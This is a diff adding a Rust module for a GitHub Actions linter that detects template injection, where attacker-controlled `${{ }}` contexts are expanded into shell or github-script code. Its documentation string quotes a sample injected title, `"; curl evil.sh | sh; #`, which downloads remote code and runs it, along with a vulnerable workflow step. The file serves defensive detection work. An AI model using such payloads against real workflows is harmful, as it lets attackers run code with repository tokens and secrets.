@@ -1,0 +1,296 @@
+//! Audit `template-injection`: attacker-controlled `${{ }}` contexts expanded into shell
+//! scripts or `actions/github-script` code. Its documentation is [`DOC`].
+
+use super::model::{Step, expressions};
+use super::yaml::Node;
+use super::{AuditDoc, Ctx, Hit};
+use crate::finding::{Confidence, Finding, Severity};
+use std::collections::HashMap;
+
+/// Documentation of `template-injection`.
+pub const DOC: AuditDoc = AuditDoc {
+    id: "template-injection",
+    name: "Attacker-controlled expression expanded into code",
+    severity: Severity::High,
+    confidence: Confidence::High,
+    description: "**What it finds:** a `${{ }}` expression over a context that outsiders \
+control (issue and pull-request titles and bodies, comment and review bodies, branch names \
+such as `github.head_ref` or `pull_request.head.ref`, commit messages and author names, \
+`workflow_run` head branch and commit, discussion text, wiki page names) expanded inside \
+a `run:` script or the `script:` of `actions/github-script`, directly or through an \
+`env.` variable set from such a context.\n\n\
+**Why it matters:** GitHub substitutes the text into the script before the shell runs it, \
+so a title like `\"; curl evil.sh | sh; #` becomes code running with the job's token and \
+secrets. With `pull_request_target`, `issue_comment` or `issues` triggers that means \
+write access to the repository.\n\n\
+**Example:**\n```yaml\n- run: echo \"Checking ${{ github.event.pull_request.title }}\"\n```\n",
+    remediation: "Pass the value through an environment variable and quote it in the \
+shell: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `run: echo \"$TITLE\"` \
+(in github-script read `context.payload` instead of expanding).",
+};
+
+/// Contexts an outsider controls. `*` matches one path segment (an array index).
+const ATTACKER_CONTEXTS: &[&str] = &[
+    "github.head_ref",
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.pull_request.head.repo.description",
+    "github.event.pull_request.head.repo.homepage",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.pages.*.page_name",
+    "github.event.commits.*.message",
+    "github.event.commits.*.author.email",
+    "github.event.commits.*.author.name",
+    "github.event.commits.*.committer.email",
+    "github.event.commits.*.committer.name",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.head_commit.committer.email",
+    "github.event.head_commit.committer.name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.display_title",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.head_commit.committer.email",
+    "github.event.workflow_run.head_commit.committer.name",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+    "github.event.workflow_run.head_repository.description",
+    "github.event.check_suite.head_branch",
+    "github.event.check_run.check_suite.head_branch",
+    "github.event.merge_group.head_commit.message",
+    "github.event.merge_group.head_commit.author.name",
+    "github.event.merge_group.head_commit.author.email",
+    "github.event.changes.title.from",
+    "github.event.changes.body.from",
+];
+
+/// Extracts dotted context paths (`a.b[0].c`, `a['b']`) from an expression, normalised
+/// to lowercase dotted form with `*` for indexes.
+pub(crate) fn contexts(expr: &str) -> Vec<String> {
+    let chars: Vec<char> = expr.chars().collect();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        if c == '\'' {
+            // Skip string literals.
+            i += 1;
+            while i < chars.len() && chars[i] != '\'' {
+                i += 1;
+            }
+            i += 1;
+            continue;
+        }
+        let starts = (c.is_ascii_alphabetic() || c == '_')
+            && (i == 0
+                || !(chars[i - 1].is_ascii_alphanumeric()
+                    || matches!(chars[i - 1], '_' | '.' | '-')));
+        if !starts {
+            i += 1;
+            continue;
+        }
+        let mut path = String::new();
+        while i < chars.len() {
+            let c = chars[i];
+            if c.is_ascii_alphanumeric() || c == '_' || c == '-' {
+                path.push(c.to_ascii_lowercase());
+                i += 1;
+            } else if c == '.'
+                && chars
+                    .get(i + 1)
+                    .is_some_and(|n| n.is_ascii_alphanumeric() || *n == '_' || *n == '*')
+            {
+                path.push('.');
+                i += 1;
+                if chars[i] == '*' {
+                    path.push('*');
+                    i += 1;
+                }
+            } else if c == '[' {
+                let close = chars[i..].iter().position(|&x| x == ']').map(|p| i + p);
+                let Some(close) = close else { break };
+                let inner: String = chars[i + 1..close].iter().collect();
+                let inner = inner.trim();
+                if let Some(name) = inner.strip_prefix('\'').and_then(|s| s.strip_suffix('\'')) {
+                    path.push('.');
+                    path.push_str(&name.to_ascii_lowercase());
+                } else {
+                    path.push_str(".*");
+                }
+                i = close + 1;
+            } else {
+                break;
+            }
+        }
+        // Function names (`contains(`) are not contexts.
+        if chars.get(i) != Some(&'(') {
+            out.push(path);
+        }
+    }
+    out
+}
+
+fn pattern_matches(pattern: &str, path: &str) -> bool {
+    let p: Vec<&str> = pattern.split('.').collect();
+    let c: Vec<&str> = path.split('.').collect();
+    p.len() == c.len()
+        && p.iter()
+            .zip(&c)
+            .all(|(a, b)| *a == "*" || *b == "*" || a == b)
+}
+
+/// Whether `path` is attacker-controlled; with `whole_object`, also a parent of such a
+/// context (as in `toJSON(github.event.issue)`).
+pub(crate) fn is_attacker_controlled(path: &str, whole_object: bool) -> bool {
+    ATTACKER_CONTEXTS.iter().any(|p| {
+        pattern_matches(p, path)
+            || (whole_object && path.len() > "github".len() && {
+                let prefix: Vec<&str> = p.split('.').take(path.split('.').count()).collect();
+                pattern_matches(&prefix.join("."), path)
+            })
+    })
+}
+
+/// The attacker-controlled context in an expression, if any, resolving `env.NAME` through
+/// the given env lookup.
+fn dangerous_context(inner: &str, env: &dyn Fn(&str) -> Option<String>) -> Option<String> {
+    let whole = inner.to_ascii_lowercase().contains("tojson(");
+    for ctx in contexts(inner) {
+        if is_attacker_controlled(&ctx, whole) {
+            return Some(ctx);
+        }
+        if let Some(name) = ctx.strip_prefix("env.")
+            && let Some(val) = env(name)
+        {
+            for (_, e) in expressions(&val) {
+                if let Some(c) = dangerous_context(e, &|_| None) {
+                    return Some(format!("env.{name} = {c}"));
+                }
+            }
+        }
+    }
+    None
+}
+
+fn env_lookup(envs: &[Option<&Node>], name: &str) -> Option<String> {
+    envs.iter().flatten().find_map(|env| {
+        env.entries()
+            .iter()
+            .find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(name)))
+            .and_then(|(_, v)| v.as_str().map(str::to_string))
+    })
+}
+
+fn sinks<'a>(step: &Step<'a>) -> Vec<(&'a Node, String)> {
+    let mut out = Vec::new();
+    if let Some((_, v)) = step.run() {
+        out.push((v, format!("{}.run", step.path)));
+    }
+    if step.is_action("actions/github-script")
+        && let Some((_, v)) = step.with_entry("script")
+    {
+        out.push((v, format!("{}.with.script", step.path)));
+    }
+    out
+}
+
+/// Runs the audit.
+pub(crate) fn run(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
+    let wf = cx.wf;
+    let privileged =
+        wf.kind == super::model::FileKind::Action || wf.has_privileged_untrusted_trigger();
+    for job in &wf.jobs {
+        for step in &job.steps {
+            let envs = [step.node.get("env"), job.node.get("env"), wf.env];
+            let lookup = |n: &str| env_lookup(&envs, n);
+            for (node, path) in sinks(step) {
+                let Some(text) = node.as_str() else { continue };
+                if !text.contains("${{") {
+                    continue;
+                }
+                let mut seen: HashMap<&str, usize> = HashMap::new();
+                for (raw, inner) in expressions(text) {
+                    let nth = seen.entry(raw).or_insert(0);
+                    let this = *nth;
+                    *nth += 1;
+                    let Some(ctx) = dangerous_context(inner, &lookup) else {
+                        continue;
+                    };
+                    let span = cx
+                        .src
+                        .find_in_node(node, raw, this)
+                        .unwrap_or_else(|| cx.src.node_span(node));
+                    let sink = if path.ends_with(".run") {
+                        "shell script"
+                    } else {
+                        "github-script code"
+                    };
+                    let msg = format!(
+                        "`{raw}` expands attacker-controlled `{ctx}` into a {sink}: text such as a crafted title or branch name becomes code running with this job's token and secrets; pass it through `env:` and use the quoted variable instead."
+                    );
+                    let severity = if privileged {
+                        Severity::High
+                    } else {
+                        Severity::Medium
+                    };
+                    cx.report(
+                        out,
+                        &DOC,
+                        Hit::new(span, format!("{path}[{ctx}]#{this}"), msg).severity(severity),
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn context_extraction() {
+        assert_eq!(
+            contexts("github.event.commits[0].message"),
+            ["github.event.commits.*.message"]
+        );
+        assert_eq!(
+            contexts("github.event['issue'].title"),
+            ["github.event.issue.title"]
+        );
+        assert_eq!(
+            contexts("contains(github.head_ref, 'x.y') && env.A"),
+            ["github.head_ref", "env.a"]
+        );
+    }
+
+    #[test]
+    fn attacker_control() {
+        assert!(is_attacker_controlled("github.event.issue.title", false));
+        assert!(is_attacker_controlled(
+            "github.event.commits.*.message",
+            false
+        ));
+        assert!(!is_attacker_controlled("github.event.issue.number", false));
+        assert!(!is_attacker_controlled(
+            "github.event.pull_request.head.sha",
+            false
+        ));
+        assert!(!is_attacker_controlled("github.event.issue", false));
+        assert!(is_attacker_controlled("github.event.issue", true));
+        assert!(is_attacker_controlled("github.event", true));
+        assert!(!is_attacker_controlled("github.sha", true));
+    }
+}
